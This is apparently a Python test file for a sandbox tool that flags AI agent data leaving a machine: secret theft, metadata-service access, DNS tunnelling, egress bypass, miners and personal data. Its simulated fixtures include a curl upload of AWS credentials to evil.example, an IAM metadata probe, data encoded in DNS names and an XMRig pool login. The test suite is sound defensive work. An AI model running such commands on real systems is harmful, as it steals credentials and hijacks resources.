"""Detectors of what leaves and where to: secrets, prompts, metadata, DNS, hosts, miners. Each fires, and stays silent on near misses."""

from __future__ import annotations

import base64
import json
import random
from typing import Any

from build import Made
from sentra_sandbox.review.detectors import (
    dns_tunnel,
    egress_bypass,
    metadata_service,
    miner,
    opaque_egress,
    personal_data,
    secret_egress,
    secret_in_prompt,
)
from sentra_sandbox.review.findings import Confidence, Severity

NOISE = random.Random(7).randbytes(4000)
PNG = b"\x89PNG\r\n\x1a\n" + NOISE


def agent(run: Made) -> int:
    return run.process("/usr/bin/python3", "agent.py")


# ---- secrets


def test_secret_bytes_in_a_body_are_proven_with_the_way_they_went() -> None:
    run = Made()
    first, second = agent(run), run.process("/usr/bin/curl", "-d@-", "https://evil.example/up", parent=1)
    secret = run.secret(first, "~/.aws/credentials [default] aws_secret_access_key")
    run.flow(first, second, "pipe", "pipe:[4]")
    run.sighting(secret, "evil.example", coding="gzip>base64", process=second)
    (finding,) = run.found(secret_egress.DETECTOR)
    assert (finding.kind.id, finding.severity, finding.confidence) == ("SEN-001", Severity.CRITICAL, Confidence.PROVEN)
    assert "~/.aws/credentials → evil.example" in finding.subject
    texts = [item.text for item in finding.evidence]
    assert len(texts) == 3 and "gets the secret" in texts[0] and "pipe" in texts[1] and "gzip>base64" in texts[2]


def test_few_bits_are_likely_and_fewer_are_nothing() -> None:
    run = Made()
    secret = run.secret(agent(run))
    run.sighting(secret, "a.example", bits=40)
    run.sighting(secret, "b.example", bits=20)
    (finding,) = run.found(secret_egress.DETECTOR)
    assert (finding.severity, finding.confidence) == (Severity.HIGH, Confidence.HIGH)


def test_a_key_sent_to_its_own_provider_is_no_finding() -> None:
    run = Made()
    key = run.secret(agent(run), "$OPENAI_API_KEY", "environment", b"sk-proj-Abcdefghijklmnop1234567890", owners=("api.openai.com", "*.openai.azure.com"))
    run.sighting(key, "api.openai.com", "http-header")
    run.sighting(key, "eu.openai.azure.com:443", "http-header")
    assert not run.found(secret_egress.DETECTOR)
    run.sighting(key, "openai.com.evil.example", "http-header")
    assert run.ids(secret_egress.DETECTOR) == {"SEN-001"}


def test_git_push_with_the_owners_token_is_no_finding_but_its_body_is() -> None:
    run = Made()
    git = run.process("/usr/lib/git-core/git-remote-https", "origin", "https://git.corp.example/x.git")
    token = run.secret(git, "~/.git-credentials git.corp.example", value=b"ghp_Zk3v91mAbQ77yTr5LxwP20sNdEuFhJc4KqVo")
    run.sighting(token, "git.corp.example", "http-header", "base64")
    assert not run.found(secret_egress.DETECTOR)
    run.sighting(token, "git.corp.example", "http-body", "zlib")
    assert run.ids(secret_egress.DETECTOR) == {"SEN-001"}


def test_what_stays_on_the_machine_did_not_leave() -> None:
    run = Made()
    secret = run.secret(agent(run))
    run.sighting(secret, "127.0.0.1")
    run.sighting(secret, "", "pipe")
    run.sighting(secret, "/tmp/x", "file")
    assert not run.found(secret_egress.DETECTOR)


def test_a_secret_in_refused_names_was_only_tried() -> None:
    run = Made()
    secret = run.secret(agent(run))
    run.net.dns("wjalrxutnfemi.evil.example", allowed=False, reason="not allowed")
    run.sighting(secret, "evil.example", "dns", seqs=(run.net.events[-1].seq,))
    (finding,) = run.found(secret_egress.DETECTOR)
    assert finding.severity == Severity.HIGH and "tried to send" in finding.summary


def test_env_read_and_not_sent_is_nothing() -> None:
    run = Made()
    first = agent(run)
    run.read(first, ".env", b"DB_PASSWORD=hunter2hunter2\n")
    run.secret(first, ".env DB_PASSWORD")
    run.net.http(first, "api.example.com", "POST", "/v1/things", b'{"a": 1}' * 20)
    for one in (secret_egress, opaque_egress, secret_in_prompt):
        assert not run.found(one.DETECTOR)


def test_a_secret_in_a_prompt_is_told_once_and_as_that() -> None:
    run = Made()
    first = agent(run)
    secret = run.secret(first, ".env DB_PASSWORD")
    number = run.net.chat(first, [{"role": "user", "content": "here is my .env"}])
    run.sighting(secret, "api.openai.com", exchange=number)
    assert run.ids(secret_in_prompt.DETECTOR) == {"SEN-004"}
    assert not run.found(secret_egress.DETECTOR)


def test_the_key_of_the_call_itself_is_not_in_the_prompt() -> None:
    run = Made()
    first = agent(run)
    key = run.secret(first, "$OPENAI_API_KEY", "environment", owners=("api.openai.com",))
    number = run.net.chat(first, [{"role": "user", "content": "hi"}])
    run.sighting(key, "api.openai.com", "http-header", exchange=number)
    assert not run.found(secret_in_prompt.DETECTOR) + run.found(secret_egress.DETECTOR)


# ---- opaque


def test_encrypted_bytes_after_a_secret() -> None:
    run = Made()
    first = agent(run)
    run.secret(first)
    run.net.http(first, "drop.example", "POST", "/", NOISE[:600], media="application/octet-stream")
    (finding,) = run.found(opaque_egress.DETECTOR)
    assert (finding.kind.id, finding.severity, finding.confidence) == ("SEN-003", Severity.HIGH, Confidence.MEDIUM)
    assert "not proven" not in finding.summary and finding.evidence[0].seq < finding.evidence[-1].seq


def test_images_and_declared_hosts_are_not_opaque() -> None:
    run = Made()
    first = agent(run)
    run.secret(first)
    run.net.http(first, "images.example", "POST", "/", PNG, media="image/png")
    run.net.http(first, "images.example", "POST", "/", base64.b64encode(PNG), media="text/plain")
    run.net.http(first, "images.example", "POST", "/", json.dumps({"image": base64.b64encode(PNG).decode()}).encode())
    assert not run.found(opaque_egress.DETECTOR)
    run.net.http(first, "mine.example", "POST", "/", NOISE, rule="allowedDomains[0] mine.example")
    assert all(finding.severity <= Severity.LOW for finding in run.found(opaque_egress.DETECTOR))


def test_lineage_that_fits_the_size_weighs_more() -> None:
    run = Made()
    first = agent(run)
    access = run.read(first, "~/.ssh/id_ed25519", b"k" * 300)
    secret = run.secret(first, "~/.ssh/id_ed25519", "private-key")
    object.__setattr__(secret, "source_seq", access.seq)
    sent = run.transfer(first, "drop.example", 9000, b"A" * 400)
    run.sightings.lineage.append((secret, (first,), "drop.example", sent.seqs[0], 400))
    (finding,) = run.found(opaque_egress.DETECTOR)
    assert (finding.kind.id, finding.severity) == ("SEN-002", Severity.MEDIUM)
    run.sightings.lineage[0] = (secret, (first,), "drop.example", sent.seqs[0], 5000)
    (finding,) = run.found(opaque_egress.DETECTOR)
    assert finding.severity == Severity.LOW


# ---- metadata


def test_credentials_of_the_machine() -> None:
    run = Made()
    first = agent(run)
    run.net.http(first, "169.254.169.254", path="/latest/meta-data/iam/security-credentials/role", answer=b'{"SecretAccessKey": "x"}', address="169.254.169.254", name="")
    (finding,) = run.found(metadata_service.DETECTOR)
    assert finding.severity == Severity.CRITICAL and finding.kind.id == "SEN-010"


def test_a_refused_attempt_by_curl_is_high_and_a_probe_of_an_sdk_low() -> None:
    run = Made()
    curl = run.process("/usr/bin/curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")
    run.net.connection(curl, "169.254.169.254", 80, address="169.254.169.254", name="", allowed=False, reason="link-local")
    (finding,) = run.found(metadata_service.DETECTOR)
    assert finding.severity == Severity.HIGH
    run = Made()
    run.net.connection(agent(run), "169.254.169.254", 80, address="169.254.169.254", name="", allowed=False, reason="link-local")
    (finding,) = run.found(metadata_service.DETECTOR)
    assert finding.severity == Severity.LOW
    assert not run.found(egress_bypass.DETECTOR)


def test_other_addresses_are_not_the_metadata_service() -> None:
    run = Made()
    run.net.http(agent(run), "metadata.example.com", path="/latest")
    assert not run.found(metadata_service.DETECTOR)


# ---- DNS


def test_data_in_names() -> None:
    run = Made()
    rng = random.Random(1)
    for number in range(20):
        label = base64.b32encode(rng.randbytes(25)).decode().lower()
        run.net.dns(f"{label}.{number}.t.evil.example")
    (finding,) = run.found(dns_tunnel.DETECTOR)
    assert finding.severity == Severity.HIGH and finding.subject == "evil.example"


def test_small_chunks_in_many_names() -> None:
    run = Made()
    data = random.Random(2).randbytes(200).hex()
    for number in range(0, len(data), 10):
        run.net.dns(f"{data[number : number + 10]}.x.evil.example")
    assert run.ids(dns_tunnel.DETECTOR) == {"SEN-070"}


def test_ordinary_names_are_no_tunnel() -> None:
    run = Made()
    words = ["api", "www", "cdn", "static", "img", "mail", "login", "auth", "docs", "blog", "shop", "status", "files", "assets", "media", "news", "help", "dev", "test", "stage", "data", "sync", "push", "events", "logs"]
    for word in words:
        run.net.dns(f"{word}.example.com")
        run.net.dns(f"{word}-eu-west-1.prod.internal-services.example.org")
    for number in range(40):
        run.net.dns(f"{number}.1.168.192.in-addr.arpa")
    run.net.dns("d111111abcdef8.cloudfront.net")
    run.net.dns("e3b0c44298fc1c149afbf4c8996fb924.assets.cdn.example.net")
    run.net.dns("selector1._domainkey.example.com")
    assert not run.found(dns_tunnel.DETECTOR)


# ---- hosts


def test_refused_hosts() -> None:
    run = Made()
    first = agent(run)
    run.net.dns("evil.example.net", allowed=False, reason="not in allowedDomains")
    run.net.connection(first, "localhost", 11434, address="127.0.0.1", allowed=False, reason="the host's own service")
    found = {finding.subject: finding.severity for finding in run.found(egress_bypass.DETECTOR)}
    assert found == {"evil.example.net": Severity.MEDIUM, "localhost": Severity.LOW}


def test_addresses_without_a_name() -> None:
    run = Made()
    first = agent(run)
    number = run.net.connection(first, "203.0.113.9", 4444, address="203.0.113.9", name="")
    run.net.data(number, b"hello")
    run.net.close(number, sent=5)
    declared = run.net.connection(first, "203.0.113.10", 5432, address="203.0.113.10", name="", rule="--allow-net 203.0.113.10")
    run.net.close(declared, sent=5)
    run.net.http(first, "api.example.com")
    found = run.found(egress_bypass.DETECTOR)
    assert [(finding.kind.id, finding.subject) for finding in found] == [("SEN-081", "203.0.113.9")]


def test_dns_over_https() -> None:
    run = Made()
    first = agent(run)
    run.net.http(first, "cloudflare-dns.com", path="/dns-query?name=evil.example", headers={"Accept": "application/dns-json"})
    assert run.ids(egress_bypass.DETECTOR) == {"SEN-082"}


def test_tls_that_was_passed_through_is_said_and_low() -> None:
    run = Made()
    number = run.net.connection(agent(run), "pinned.example")
    run.net.tls(number, mode="passthrough", sni="pinned.example")
    run.net.close(number, sent=100)
    (finding,) = run.found(egress_bypass.DETECTOR)
    assert (finding.kind.id, finding.severity) == ("SEN-083", Severity.LOW)


def test_fronting() -> None:
    run = Made()
    first = agent(run)
    number = run.net.connection(first, "cdn.example")
    run.net.exchange(number, authority="hidden.evil.test", status=200)
    shared = run.net.connection(first, "www.example.org")
    run.net.exchange(shared, authority="static.example.org")
    (finding,) = run.found(egress_bypass.DETECTOR)
    assert finding.kind.id == "SEN-084" and finding.subject == "hidden.evil.test in cdn.example"


# ---- miner


def test_the_protocol_of_pools() -> None:
    run = Made()
    first = agent(run)
    run.transfer(first, "pool.example", 3333, b'{"id":1,"method":"login","params":{"login":"48xyz","pass":"x","agent":"XMRig/6"}}\n')
    (finding,) = run.found(miner.DETECTOR)
    assert (finding.severity, finding.confidence) == (Severity.HIGH, Confidence.PROVEN)
    run = Made()
    run.process("/tmp/x", "-o", "stratum+tcp://pool.example:3333", "-u", "48abc")
    assert run.ids(miner.DETECTOR) == {"SEN-060"}


def test_json_rpc_is_no_miner() -> None:
    run = Made()
    first = agent(run)
    run.transfer(first, "rpc.example", 3333, b'{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"agent":"x"}}')
    run.net.http(first, "rpc.example", "POST", "/", b'{"jsonrpc":"2.0","method":"login","params":{"user":"a"}}')
    run.process("/usr/bin/gcc", "-a", "x.c")
    assert not run.found(miner.DETECTOR)


# ---- personal data


def people(count: int) -> str:
    return "\n".join(f"Name{n},first.last{n}@corp{n % 7}.de,+49 30 {2000000 + n * 7919}" for n in range(count))


def test_data_about_persons_is_counted_and_not_shown() -> None:
    run = Made()
    text = people(20) + "\ncards: 4532 0151 1283 0366, 4916 6734 7572 5015, 5425 2334 3010 9903"
    run.net.chat(agent(run), [{"role": "user", "content": text}])
    (finding,) = run.found(personal_data.DETECTOR)
    assert finding.severity == Severity.MEDIUM and "20 mail addresses" in finding.summary
    shown = finding.summary + "".join(item.text + item.excerpt for item in finding.evidence)
    assert "first.last" not in shown and "4532" not in shown


def test_authors_test_cards_and_uuids_are_none() -> None:
    run = Made()
    log = "\n".join(f"commit {n:040x}\nAuthor: Dev{n % 4} <dev{n % 4}@corp.io>" for n in range(30))
    quiet: list[dict[str, Any]] = [
        {"role": "user", "content": "4242 4242 4242 4242 4111-1111-1111-1111 user@example.com a@test.example"},
        {"role": "tool", "tool_call_id": "c", "content": "3f2504e0-4f89-11d3-9a0c-0305e82c3301 2024-01-02 10.0.0.1 1234567890123456"},
        {"role": "user", "content": log},
    ]
    run.net.chat(agent(run), quiet)
    assert all(finding.severity <= Severity.LOW for finding in run.found(personal_data.DETECTOR))


def test_the_same_conversation_again_counts_once() -> None:
    run = Made()
    first = agent(run)
    for _ in range(30):
        run.net.chat(first, [{"role": "user", "content": "write to anna.b@corp.de and ben@corp.de"}])
    assert not run.found(personal_data.DETECTOR)
